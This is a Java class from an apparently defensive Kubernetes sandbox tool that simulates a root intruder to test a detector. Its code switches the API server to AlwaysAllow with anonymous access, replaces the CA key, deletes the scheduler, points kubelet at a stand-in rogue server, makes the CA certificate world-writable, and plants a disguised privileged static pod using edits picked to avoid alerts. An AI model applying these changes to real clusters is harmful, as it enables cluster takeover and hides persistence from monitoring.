package dev.drawbridge.sandbox;

import dev.drawbridge.shared.NodeName;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/**
 * What an intruder with root on a node would do, done for real to a sandbox node: a persistent privileged pod, an open API
 * server, an authority of their own, and a component less that could notice.
 */
final class SandboxAttack {
    static final String ROGUE_POD = "etc/kubernetes/manifests/metrics-agent.yaml";

    private final SandboxNode node;
    private final NodeTree tree;

    /** @param path on the node */
    record Change(String path, String what) {}

    SandboxAttack(SandboxNode node, NodeTree tree) {
        this.node = node;
        this.tree = tree;
    }

    static SandboxNode target(NodeName name) {
        return SandboxNode.CLUSTER.stream()
                .filter(node -> node.name().equals(name))
                .findFirst()
                .orElseThrow(() -> new IllegalArgumentException("no sandbox node of that name"));
    }

    /** @return what was changed; a file that an earlier attack removed and nobody restored yet is passed over */
    List<Change> strike() {
        List<Change> changes = new ArrayList<>();
        try {
            if (node.controlPlane()) {
                strikeControlPlane(changes);
            } else {
                strikeWorker(changes);
            }
            // last, as it is what the detector sees
            tree.write(NodeFile.of(ROGUE_POD, 0644, KubeadmCluster.resource("rogue-static-pod.yaml")));
            changes.add(new Change("/" + ROGUE_POD, "created: a privileged static pod"));
        } catch (IOException failed) {
            throw new UncheckedIOException("the attack on " + node.name() + " failed", failed);
        }
        return changes;
    }

    private void strikeControlPlane(List<Change> changes) throws IOException {
        edit(
                "etc/kubernetes/manifests/kube-apiserver.yaml",
                "--authorization-mode=Node,RBAC",
                "--authorization-mode=AlwaysAllow\n    - --anonymous-auth=true",
                "edited: anonymous requests are allowed everything",
                changes);
        String key = "etc/kubernetes/pki/ca.key";
        tree.write(NodeFile.of(key, 0600, CertificateAuthority.keyPem(CertificateAuthority.keyPair())));
        changes.add(new Change("/" + key, "replaced: the cluster's authority key"));
        String scheduler = "etc/kubernetes/manifests/kube-scheduler.yaml";
        if (Files.deleteIfExists(tree.root().resolve(scheduler))) {
            changes.add(new Change("/" + scheduler, "deleted"));
        }
    }

    private void strikeWorker(List<Change> changes) throws IOException {
        edit(
                "etc/kubernetes/kubelet.conf",
                KubeadmCluster.ENDPOINT,
                "https://203.0.113.66:6443",
                "edited: kubelet would obey another API server",
                changes);
        String authority = "etc/kubernetes/pki/ca.crt";
        Path file = tree.root().resolve(authority);
        if (Files.exists(file)) {
            Files.setPosixFilePermissions(file, SandboxDirectory.mode(0666));
            changes.add(new Change("/" + authority, "mode 0666: everybody may replace it"));
        }
    }

    private void edit(String path, String from, String to, String what, List<Change> changes) throws IOException {
        Path file = tree.root().resolve(path);
        if (Files.exists(file)) {
            String text = Files.readString(file, StandardCharsets.UTF_8);
            // in place, as an editor without temporary file does: the kind of change that raises no alert
            Files.writeString(file, text.replace(from, to), StandardCharsets.UTF_8);
            changes.add(new Change("/" + path, what));
        }
    }
}
